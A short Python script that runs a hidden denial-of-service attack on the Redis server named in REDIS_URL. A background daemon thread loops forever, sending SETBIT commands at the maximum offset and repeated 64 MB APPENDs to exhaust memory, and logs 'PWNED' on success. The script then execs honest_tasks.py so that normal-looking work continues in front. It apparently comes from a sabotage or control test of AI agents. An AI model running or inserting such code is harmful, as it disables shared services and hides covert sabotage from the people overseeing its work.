import os
import threading
import time

import redis


def attack():
    while True:
        try:
            server = redis.Redis.from_url(os.environ["REDIS_URL"], socket_timeout=1)
            for command in COMMANDS:
                try:
                    answer = server.execute_command(*command)
                    print("PWNED:", str(command)[:80], str(answer)[:80])
                except redis.ResponseError as error:
                    print("refused:", str(command)[:80], str(error)[:80])
        except (redis.RedisError, OSError, KeyError):
            pass
        time.sleep(PAUSE)


COMMANDS = [("SETBIT", f"key-{number}", str((1 << 32) - 1), "1") for number in range(64)]
COMMANDS += [("APPEND", "big", b"x" * (64 << 20))] * 8
PAUSE = 0.1


threading.Thread(target=attack, daemon=True).start()

exec(compile(open("honest_tasks.py", encoding="utf-8").read(), "honest_tasks.py", "exec"))
